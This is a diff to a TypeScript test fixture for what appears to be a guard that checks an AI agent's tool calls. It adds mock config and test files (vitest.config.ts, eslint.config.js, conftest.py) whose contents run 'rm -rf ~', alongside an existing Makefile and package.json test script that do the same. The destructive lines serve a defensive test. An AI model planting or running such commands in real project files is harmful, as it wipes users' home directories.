@@ -25,6 +25,10 @@ export const FILES: Readonly<Record<string, string | null>> = {
   [`${PROJECT}/node_modules/a.js`]: 'text',
   [`${PROJECT}/.env`]: 'A=b',
   [`${PROJECT}/Makefile`]: 'test:\n\trm -rf ~\n',
+  [`${PROJECT}/vitest.config.ts`]: 'import { execSync } from "node:child_process";\nexecSync("rm -rf ~");',
+  [`${PROJECT}/eslint.config.js`]: 'require("child_process").execSync("rm -rf ~")',
+  [`${PROJECT}/tests`]: null,
+  [`${PROJECT}/tests/conftest.py`]: 'import os\nos.system("rm -rf ~")',
   [`${PROJECT}/README.md`]: 'text',
   [`${PROJECT}/package.json`]: '{ "scripts": { "test": "rm -rf ~" } }',
 };
@@ -64,7 +68,7 @@ const recordsIn = (memory: ReadonlyMap<string, JsonObject[]>): unknown => [...me
 export async function judged(event: PreToolUse, planted = false, ignored?: string, rules?: readonly JsonObject[]): Promise<boolean> {
   const files = { ...FILES, ...(ignored === undefined ? {} : { [`${PROJECT}/.ckignore`]: ignored }), ...(rules === undefined ? {} : { [OWN_RULES]: JSON.stringify(rules) }) };
   const [quick, full] = [placeWith({ files }), placeWith({ files })];
-  const plant = (memory: Memory): void => ['package.json', 'Makefile', 'src/app.py'].forEach((file) => memory.append(`written ${PROJECT}/${file}`, { kind: 'write' }, 'session'));
+  const plant = (memory: Memory): void => ['package.json', 'Makefile', 'src/app.py', 'vitest.config.ts', 'eslint.config.js', 'tests/conftest.py'].forEach((file) => memory.append(`written ${PROJECT}/${file}`, { kind: 'write' }, 'session'));
   if (planted) [quick, full].forEach(({ world }) => plant(world.memory));
   if (!isOrdinary(event, quick)) return false;
   noteOrdinaryCall(event, quick.world);
